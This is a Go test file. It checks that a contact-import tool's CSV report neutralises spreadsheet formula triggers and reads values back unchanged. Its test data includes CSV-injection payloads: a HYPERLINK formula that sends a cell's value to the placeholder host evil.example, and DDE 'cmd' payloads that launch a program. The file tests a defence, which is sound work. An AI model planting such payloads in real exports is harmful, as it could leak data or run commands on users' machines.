package report

import (
	"contactimport/printable"

	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"testing"
)

// formulaCells are cells a spreadsheet would run, or that look like the neutralised form of one.
var formulaCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-1`,
	`-2+3+cmd|' /C calc'!A0`,
	`+49 170 1234567`,
	`'=x`,
	`''@y`,
	`'+49 170 1234567`,
	"\tTAB",
	"\rCR",
	"\r\n=CRLF",
	"\nLF",
	`plain`,
	``,
	`'`,
	`''`,
	`'plain`,
	`a=b`,
	`=`,
}

// TestFormulaCellsRoundTrip writes every tricky value as a cell, a header name, an error code
// and a message: no cell of the CSV on disk starts with a formula trigger, and the Reader gives
// back exactly what was written, so retry sends the original value and --resume's header check
// sees the input's header.
func TestFormulaCellsRoundTrip(t *testing.T) {
	header := append([]string{"user.Email"}, formulaCells...)
	var buf bytes.Buffer
	w := NewWriter(&buf, header)
	if err := w.WriteHeader(); err != nil {
		t.Fatal(err)
	}
	var want []Line
	for i, v := range formulaCells {
		cells := make([]string, len(header))
		for j := range cells {
			cells[j] = formulaCells[(i+j)%len(formulaCells)]
		}
		cells[0] = v
		l := Line{Row: i + 1, Line: i + 2, Status: Failed, Class: Rejected, Code: v, Message: v, Attempts: 1, Cells: cells}
		if err := w.Write(l); err != nil {
			t.Fatal(err)
		}
		want = append(want, l)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	raw := csv.NewReader(bytes.NewReader(buf.Bytes()))
	raw.FieldsPerRecord = -1
	for {
		rec, err := raw.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range rec {
			if c != "" && isTrigger(c[0]) {
				t.Errorf("cell %q on disk starts with a formula trigger", c)
			}
		}
	}

	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	// The CSV format reads a quoted CR LF back as LF; that is the only change a value undergoes.
	norm := func(s string) string { return string(bytes.ReplaceAll([]byte(s), []byte("\r\n"), []byte("\n"))) }
	wantHeader := make([]string, len(header))
	for i, h := range header {
		wantHeader[i] = norm(h)
	}
	if got := r.InputHeader(); !slices.Equal(got, wantHeader) {
		t.Errorf("header read back:\n got %q\nwant %q", got, wantHeader)
	}
	for _, wl := range want {
		got, err := r.Read()
		if err != nil {
			t.Fatalf("row %d: %v", wl.Row, err)
		}
		for j, c := range wl.Cells {
			if got.Cells[j] != norm(c) {
				t.Errorf("row %d cell %d: got %q, want %q", wl.Row, j, got.Cells[j], norm(c))
			}
		}
		// The tool's own columns come back as shown: escaped by printable.Text.
		wantCode := printable.Text(wl.Code, printable.MessageMax)
		if got.Code != wantCode || got.Message != printable.Text(wl.Message, printable.MessageMax) {
			t.Errorf("row %d: code %q message %q, want %q", wl.Row, got.Code, got.Message, wantCode)
		}
	}
	if _, err := r.Read(); err != io.EOF {
		t.Fatalf("after the last line: %v, want io.EOF", err)
	}
}

// TestNeutraliseTable pins the written form of a few cells.
func TestNeutraliseTable(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1":      "'=1+1",
		"+49 170":   "'+49 170",
		"-1":        "'-1",
		"@SUM(A1)":  "'@SUM(A1)",
		"\tx":       "'\tx",
		"\rx":       "'\rx",
		"'=x":       "''=x",
		"''@y":      "'''@y",
		"'":         "'",
		"'abc":      "'abc",
		"":          "",
		"anna@b.de": "anna@b.de",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
		if got := Restore(want); got != in {
			t.Errorf("Restore(%q) = %q, want %q", want, got, in)
		}
	}
}
